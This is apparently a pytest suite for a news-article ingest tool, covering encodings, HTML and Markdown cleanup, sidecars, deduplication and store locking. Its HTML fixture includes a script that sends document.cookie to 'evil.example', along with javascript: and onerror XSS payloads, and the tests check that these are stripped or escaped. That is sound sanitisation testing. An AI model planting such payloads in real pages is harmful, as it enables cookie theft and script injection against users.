"""Reading articles (encodings, HTML, Markdown), sidecars, folders, URLs, and ingest into a real store."""
from __future__ import annotations

import codecs
import datetime as dt
import time
from pathlib import Path

import pytest

from core.errors import InputError
from core.ingest.add import apply_sidecar, collect, fetch_article, ingest_paths, ingest_uploads, load_sidecar, read_article
from core.reader import raw_lines_html
from core.store.db import Store

SEEDS = Path(__file__).resolve().parent.parent / "seeds"
QUOTED = "“Candid” talks — Blinken said ties were ‘at an inflection point’… The café in Pékin was open."

HOSTILE_HTML = """<!doctype html><html><head>
<meta charset="utf-8"><title>Blinken, Wang Yi meet in Beijing | Example Times</title>
<meta property="og:site_name" content="Example Times">
<meta property="article:published_time" content="2023-06-19T08:00:00Z">
<link rel="canonical" href="https://example.com/world/blinken-wang-yi">
<script>document.location = 'https://evil.example/?c=' + document.cookie;</script>
<style>body { display: none }</style></head>
<body><nav><a href="/">Home</a> | <a href="/world">World</a></nav>
<article><h1>Blinken, Wang Yi meet in Beijing</h1>
<p>US Secretary of State Antony Blinken met Chinese Foreign Minister Wang Yi in Beijing on Monday,
in the highest-level American visit to China in five years.</p>
<p>Both sides called the talks candid and constructive, <a href="javascript:alert('x')">officials said</a>,
<img src="x.png" onerror="alert('pwned')"> and agreed to keep lines of communication open.</p>
<p>A protester's sign read &lt;script&gt;alert(1)&lt;/script&gt; outside the hotel.</p>
<script>alert('inline')</script>
</article><footer>Subscribe to our newsletter</footer></body></html>"""


def write(tmp_path, name, data: bytes) -> Path:
    path = tmp_path / name
    path.write_bytes(data)
    return path


# -- decoding --------------------------------------------------------------------------------------


@pytest.mark.parametrize("encoding, text", [
    ("utf-8", QUOTED),
    ("utf-8-sig", QUOTED),
    ("utf-16", QUOTED),  # Python writes a BOM
    ("utf-16-be", None),  # with an explicit BOM below
    ("utf-16-le", QUOTED),  # no BOM: recognised by its NUL bytes
    ("cp1252", QUOTED),
    ("latin-1", "Le café où Blinken a dîné à Pékin était très animé. Señor Müller était là."),
    ("gb18030", "布林肯访华后，中美双方同意保持沟通，管控分歧，推动两国关系稳定发展。"),
])
def test_text_files_are_decoded_right(tmp_path, encoding, text):
    if text is None:
        data, text = codecs.BOM_UTF16_BE + QUOTED.encode("utf-16-be"), QUOTED
    else:
        data = text.encode(encoding)
    raw = read_article(write(tmp_path, "a.txt", data))
    assert raw.text == text
    assert raw.source_format == "txt" and raw.meta == {}


def test_windows_line_endings_and_control_characters_are_normalised(tmp_path):
    raw = read_article(write(tmp_path, "a.txt", b"Title\r\n\r\nFirst line.\rSecond\x0cline.\x1a\r\n"))
    assert raw.text == "Title\n\nFirst line.\nSecond\nline."


# -- HTML ------------------------------------------------------------------------------------------


def test_html_wire_reprint_outlet_is_the_site_and_the_wire_is_the_credit(tmp_path):
    """A Reuters story on another site: outlet = the site (og:site_name), credit = Reuters; with no
    site name the URL's domain names the publisher."""
    from core.catalogs import load_catalogs
    from core.ingest.clean import clean_text
    from core.extract import resolve_metadata

    page = HOSTILE_HTML.replace("<p>US Secretary", "<p>BEIJING, June 19 (Reuters) - US Secretary")
    catalogs = load_catalogs()
    raw = read_article(write(tmp_path, "story.html", page.encode()))
    meta = resolve_metadata(raw, clean_text(raw.text), catalogs)
    assert (meta["outlet"], meta["credit"]) == ("Example Times", "Reuters")
    bare = page.replace('<meta property="og:site_name" content="Example Times">', "").replace(" | Example Times", "")
    raw = read_article(write(tmp_path, "bare.html", bare.encode()))
    meta = resolve_metadata(raw, clean_text(raw.text), catalogs)
    assert (meta["outlet"], meta["credit"]) == ("example.com", "Reuters")


def test_html_is_reduced_to_the_article_with_page_metadata(tmp_path):
    raw = read_article(write(tmp_path, "story.html", HOSTILE_HTML.encode()))
    assert raw.source_format == "html"
    assert raw.meta == {"page": {"title": "Blinken, Wang Yi meet in Beijing", "outlet": "Example Times",
                                 "url": "https://example.com/world/blinken-wang-yi", "pub_date": dt.date(2023, 6, 19),
                                 "date_evidence": "the page's publication-date markup"}}
    assert "Antony Blinken met Chinese Foreign Minister Wang Yi" in raw.text
    assert "officials said" in raw.text  # a link's text is kept, its target is not
    for unsafe in ("document.cookie", "alert('inline')", "javascript:", "onerror", "pwned", "display: none",
                   "Subscribe to our newsletter", "Home | World"):
        assert unsafe not in raw.text
    # Markup the page shows as text is text: stored as typed, escaped when shown.
    assert "<script>alert(1)</script>" in raw.text


def test_html_declared_charset_is_honoured(tmp_path):
    page = ('<html><head><meta http-equiv="Content-Type" content="text/html; charset=windows-1252"></head>'
            f"<body><p>{QUOTED}</p></body></html>")
    assert QUOTED in read_article(write(tmp_path, "a.htm", page.encode("cp1252"))).text


def test_html_fragment_without_article_markup_keeps_visible_text(tmp_path):
    raw = read_article(b"<div onclick='steal()'>Wang Yi <b>warned</b> Washington<script>x()</script></div>", "f.html")
    assert raw.text == "Wang Yi warned Washington"


# -- Markdown --------------------------------------------------------------------------------------


def test_markdown_markup_is_stripped_and_front_matter_read(tmp_path):
    md = ("---\ntitle: Blinken in Beijing\nsource: AP\ndate: 2023-06-19\n---\n"
          "# Blinken in **Beijing**\n\nAntony Blinken [met](https://x.com/a) Wang Yi. ![photo](a.png)\n"
          "It was *candid*; snake_case_words and 2 * 3 stay.\n\n> A quoted line\n- a bullet\n\n---\n")
    raw = read_article(write(tmp_path, "a.md", md.encode()))
    assert raw.source_format == "md"
    assert raw.meta == {"page": {"title": "Blinken in Beijing", "outlet": "AP", "pub_date": dt.date(2023, 6, 19)}}
    assert raw.text == ("Blinken in Beijing\n\nAntony Blinken met Wang Yi. \n"
                        "It was candid; snake_case_words and 2 * 3 stay.\n\nA quoted line\na bullet")


def test_unpaired_emphasis_marks_are_neither_analysed_nor_shown_in_the_reader(tmp_path):
    from core.reader import article_html
    from core.store.queries import article_mentions, article_sentences

    md = ("# Talks in Beijing\n\nAntony Blinken *met Wang Yi in *Beijing on Monday. The talks were *frank*, "
          "officials said.*\n\nTaiwan* came up _twice, and 2 * 3 is six.\n")
    store = tmp_path / "s.duckdb"
    report = ingest_paths([write(tmp_path, "talks.md", md.encode())], store, progress=False, jobs=1)
    assert len(report.added) == 1, report.errors
    with Store.open(store, read_only=True) as s:
        aid = s.con.execute("SELECT article_id FROM articles").fetchone()[0]
        sents, ments = article_sentences(s.con, aid), article_mentions(s.con, aid)
    text = " ".join(sents.text)
    assert "Antony Blinken met Wang Yi in Beijing on Monday." in text and "Taiwan came up twice, and 2 * 3" in text
    assert text.count("*") == 1 and "_" not in text  # only the multiplication sign is left
    page = article_html(sents, ments)
    assert "*met" not in page and "Taiwan*" not in page and "frank," in page


def test_markdown_front_matter_with_an_impossible_date(tmp_path):
    path = write(tmp_path, "a.md", b"---\ndate: 2023-02-30\n---\nBlinken met Wang Yi.\n")
    with pytest.raises(InputError) as exc:
        read_article(path)
    assert str(exc.value) == f"{path}: front matter: 'date' must be a real date as YYYY-MM-DD, got '2023-02-30'"


# -- folders, sidecars, URLs ------------------------------------------------------------------------


def test_folders_are_walked_in_order_and_hidden_files_skipped(tmp_path):
    (tmp_path / "sub").mkdir()
    (tmp_path / ".git").mkdir()
    write(tmp_path, "b.txt", b"Second article text.")
    write(tmp_path / "sub", "a.md", b"# First\n\nArticle text.")
    write(tmp_path / ".git", "HEAD.txt", b"ref: main")
    write(tmp_path, ".hidden.txt", b"secret")
    raws, errors = collect([tmp_path])
    assert errors == []
    assert [r.file for r in raws] == [str(tmp_path / "b.txt"), str(tmp_path / "sub" / "a.md")]


def test_sidecar_metadata_wins_and_unmatched_lines_are_noted(tmp_path):
    sidecar = write(tmp_path, "meta.csv", (
        "\ufefffile,title,outlet,url,pub_date,visit\n"  # Excel's UTF-8 CSV starts with a BOM
        "story.html,My title,Wire,https://example.org/s,2023-06-20,blinken-2023-06\n"
        "absent.txt,,,,,other\n").encode("utf-8"))
    metas = load_sidecar(sidecar)
    raw = read_article(write(tmp_path, "story.html", HOSTILE_HTML.encode()))
    notes = apply_sidecar([raw], metas, sidecar)
    assert {k: v for k, v in raw.meta.items() if k != "page"} == {
        "title": "My title", "outlet": "Wire", "url": "https://example.org/s", "pub_date": dt.date(2023, 6, 20),
        "visit": "blinken-2023-06", "date_evidence": "given in the metadata sidecar"}
    assert notes == [f"{sidecar}, line 3: no ingested file matches 'absent.txt' (metadata not used)"]


def test_yaml_sidecar_has_the_articles_yaml_shape(tmp_path):
    sidecar = write(tmp_path, "meta.yaml", b"articles:\n  - file: a.txt\n    pub_date: 2024-04-26\n    outlet: Xinhua\n")
    meta = load_sidecar(sidecar)["a.txt"]
    assert meta.given() == {"outlet": "Xinhua", "pub_date": dt.date(2024, 4, 26)}


def test_url_when_offline_fails_fast_with_a_clear_message():
    url = "http://127.0.0.1:9/article"  # the discard port: nothing listens there
    started = time.perf_counter()
    with pytest.raises(InputError) as exc:
        fetch_article(url)
    assert time.perf_counter() - started < 15
    assert str(exc.value) == f"{url}: could not fetch URL (is the machine online? does the address open in a browser?)"
    raws, errors = collect([url])
    assert raws == [] and [str(e) for e in errors] == [str(exc.value)]


# -- end to end through the real build ------------------------------------------------------------


def _rows(path, sql, params=None):
    with Store.open(path, read_only=True) as store:
        return store.con.execute(sql, params or []).fetchall()


@pytest.mark.slow
def test_ingest_folder_then_duplicates_then_sidecar_edit(tmp_path):
    store = tmp_path / "store.duckdb"
    folder = tmp_path / "in"
    folder.mkdir()
    seed = sorted(SEEDS.glob("0*.txt"))
    body = seed[0].read_text(encoding="utf-8")
    (folder / "a.txt").write_text(body, encoding="utf-8")
    (folder / "b.txt").write_text(seed[1].read_text(encoding="utf-8"), encoding="utf-8")
    (folder / "c.txt").write_bytes(b"%PDF-1.4")  # the bad file in the middle
    (folder / "story.html").write_text(HOSTILE_HTML, encoding="utf-8")

    report = ingest_paths([folder], store, progress=False)
    assert report.added == [str(folder / n) for n in ("a.txt", "b.txt", "story.html")]
    assert [str(e) for e in report.errors] == [
        f"{folder / 'c.txt'}: looks like a PDF document, not text: convert it to .txt or .html first"]
    assert _rows(store, "SELECT count(*) FROM articles")[0][0] == 3

    # The script never reached the store, and what looks like markup is escaped when shown.
    (html_id,) = _rows(store, "SELECT article_id FROM articles WHERE source_format = 'html'")[0]
    stored = _rows(store, "SELECT raw_text, title, outlet, pub_date FROM articles WHERE article_id = ?", [html_id])[0]
    assert "document.cookie" not in stored[0] and "javascript:" not in stored[0]
    assert stored[1:] == ("Blinken, Wang Yi meet in Beijing", "Example Times", dt.date(2023, 6, 19))
    with Store.open(store, read_only=True) as s:
        lines = s.con.execute("SELECT * FROM lines WHERE article_id = ? ORDER BY line_idx", [html_id]).df()
    shown = raw_lines_html(lines)
    # The raw line keeps the tag-shaped text of the page, shown escaped and inert.
    assert "<script" not in shown and "onerror" not in shown and "javascript:" not in shown
    assert "A protester&#x27;s sign read &lt;script&gt;alert(1)&lt;/script&gt; outside the hotel." in shown

    # The same file again, a re-published copy with another headline and outlet, and a sidecar.
    again = tmp_path / "again"
    again.mkdir()
    (again / "a-copy.txt").write_text(body, encoding="utf-8")
    reprint = "China and US agree to keep talking, says Blinken\n\n" + "\n".join(body.splitlines()[1:])
    (again / "reprint.txt").write_text(reprint + "\n\nShare this article\n", encoding="utf-8")
    sidecar = tmp_path / "meta.csv"
    sidecar.write_text("file,outlet,visit\na-copy.txt,Al Jazeera,blinken-2023-06\nreprint.txt,Yahoo News,\n",
                       encoding="utf-8")
    report = ingest_paths([again], store, sidecar=sidecar, progress=False)
    assert report.errors == []
    assert report.added == [str(again / "reprint.txt")]
    assert [d.message() for d in report.duplicates] == [
        f"{again / 'a-copy.txt'}: already in the store as {folder / 'a.txt'} (not added again)",
        f"{again / 'reprint.txt'}: the same story as {folder / 'a.txt'} (re-published; counted once, outlets merged)",
    ]
    assert report.notes == [f"{again / 'a-copy.txt'}: metadata of the stored copy updated"]
    rep = _rows(store, "SELECT article_id, outlet, outlets, visit FROM articles WHERE file = ?", [str(folder / "a.txt")])[0]
    # every outlet that carried the story, and the credit the page gives ("republished courtesy of Voice of America")
    assert rep[1:] == ("Al Jazeera", ["Al Jazeera", "Voice of America", "Yahoo News"], "blinken-2023-06")
    dup = _rows(store, "SELECT duplicate_of FROM articles WHERE file = ?", [str(again / "reprint.txt")])[0][0]
    assert dup == rep[0]
    assert _rows(store, "SELECT count(*) FROM articles WHERE duplicate_of IS NULL")[0][0] == 3


@pytest.mark.slow
def test_an_article_failing_extraction_is_reported_and_the_others_are_added(tmp_path, monkeypatch):
    import core.extract

    real = core.extract.extract

    def extract(raw, ctx, **kwargs):
        if raw.file.endswith("bad.txt"):
            raise ValueError("boom")
        return real(raw, ctx, **kwargs)

    monkeypatch.setattr(core.extract, "extract", extract)
    (tmp_path / "bad.txt").write_text("Blinken met Wang Yi in Beijing on Friday to discuss Taiwan.", encoding="utf-8")
    (tmp_path / "good.txt").write_text("Yellen met He Lifeng in Guangzhou to discuss overcapacity.", encoding="utf-8")
    report = ingest_paths([tmp_path], tmp_path / "s.duckdb", progress=False)
    assert [Path(f).name for f in report.added] == ["good.txt"]
    assert [(Path(e.source).name, "boom" in e.problem) for e in report.errors] == [("bad.txt", True)]


def test_an_upload_holds_the_dashboard_write_lock_only_while_it_writes(tmp_path, monkeypatch):
    """Issue 14: the upload held core.store.attached.writing through extraction, so every other tab waited
    (and timed out at 60 s). Now another tab reads the store while the upload is being extracted."""
    import threading

    import core.build
    from conftest import synthetic_article
    from core.store.attached import attached_connection, writing
    from core.store.db import Store

    store = tmp_path / "s.duckdb"
    result, raw = synthetic_article("Blinken held talks in Beijing.\nTaiwan came up.", "kept.txt")
    with Store.open(store) as s:
        s.write([result], [raw], "fp")
    real, reads = core.build.extract_batch, []

    def extract_batch(raws, ctx, **options):
        def other_tab():
            with attached_connection(store, lock_timeout=1) as con:
                reads.append(con.execute("SELECT count(*) FROM articles").fetchone()[0])
        reader = threading.Thread(target=other_tab, daemon=True)
        reader.start()
        reader.join(timeout=10)
        return real(raws, ctx, **options)

    monkeypatch.setattr(core.build, "extract_batch", extract_batch)
    report = ingest_uploads([("new.txt", "Yellen met He Lifeng in Guangzhou to discuss overcapacity.".encode())],
                            store, guard=lambda: writing(store))
    assert reads == [1]  # the other tab read the store (one article) while the upload was extracted
    assert report.added == ["new.txt"]
    with attached_connection(store) as con:
        assert con.execute("SELECT count(*) FROM articles").fetchone()[0] == 2
